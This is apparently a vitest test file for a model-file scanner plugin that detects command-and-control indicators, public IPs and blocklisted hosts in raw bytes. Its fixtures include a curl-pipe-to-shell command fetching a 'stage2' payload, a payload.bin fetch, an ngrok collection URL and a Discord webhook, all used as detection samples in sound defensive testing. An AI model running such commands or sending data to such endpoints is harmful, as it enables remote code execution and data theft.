import type { Fact } from "@modelaudit/core";
import { driveDetector } from "@modelaudit/core/testing";
import { describe, expect, it } from "vitest";
import plugin from "../src/index.js";

const encode = (text: string) => new TextEncoder().encode(text);
/** Printable text between binary bytes, as it sits in an unknown file or in tensor data. */
const binary = (text: string) => new Uint8Array([0, 1, 2, 0xff, ...encode(text), 0, 0xfe, 3]);

function raw(sources: Uint8Array[], facts: Fact[] = [], options: Record<string, unknown> = {}) {
  return driveDetector(plugin.detectors[0]!, { facts, sources, options }).map((finding) => [
    finding.rule,
    finding.severity ?? "default",
    finding.location?.offset,
  ]);
}

describe("network indicators in raw bytes (the printable-strings channel)", () => {
  it("subscribes to the engine's strings channel", () => {
    expect(plugin.detectors[0]!.strings).toBe(true);
  });

  it("catches C2 indicators in bytes no handler parsed, at their offset", () => {
    expect(raw([binary("curl -s http://45.137.21.9:8443/stage2 | sh")])).toEqual([["c2-indicator", "default", 12]]);
    expect(raw([binary("post to https://a1b2c3d4.ngrok-free.app/collect please")])).toEqual([
      ["c2-indicator", "default", 12],
    ]);
    expect(raw([binary("https://discord.com/api/webhooks/123456789/AbCdEfGhIjKlMnOp")])).toEqual([
      ["c2-indicator", "default", 4],
    ]);
    expect(raw([binary('{"callback_url": "https://collector.acme-metrics.net/u"}')])).toEqual([
      ["c2-indicator", "default", 22],
    ]);
    expect(raw([binary("fetch http://45.137.21.9/payload.bin now")])).toEqual([["public-ip", "default", 10]]);
  });

  it("says nothing of ordinary URLs, documentation links and dotted versions in raw bytes", () => {
    const benign = [
      "licensed under https://www.apache.org/licenses/LICENSE-2.0 see file",
      "pip install --index-url https://download.pytorch.org/whl/cpu torch",
      "built with protobuf 3.21.12.0 and onnx 1.14.1.0 runtime",
      "mirror: https://storage.acme-files.net/run7/model.bin (internal)",
      "device 192.168.1.20:8080 is a private address",
    ];
    for (const text of benign) expect(raw([binary(text)]), text).toEqual([]);
  });

  it("judges an address once: the fact that carried it wins over its raw bytes", () => {
    const url = "http://45.137.21.9:8443/v1/collect";
    const fact: Fact = { kind: "text", text: url, key: "telemetry", role: "metadata", location: { path: "telemetry" } };
    const findings = driveDetector(plugin.detectors[0]!, { facts: [fact], sources: [binary(`"telemetry":"${url}"`)] });
    expect(findings.map((finding) => finding.location)).toEqual([{ path: "telemetry" }]);
  });

  it("applies the user's allowlist and blocklist to raw bytes too", () => {
    const text = binary("sync to http://45.137.21.9:8443/v1 and https://files.evil-corp.example.net/x");
    expect(raw([text], [], { allowHosts: ["45.137.21.9"] })).toEqual([]);
    expect(raw([text], [], { allowHosts: ["45.137.21.9"], blocklist: ["evil-corp.example.net"] })).toEqual([
      ["blocklisted-host", "default", 43],
    ]);
  });
});
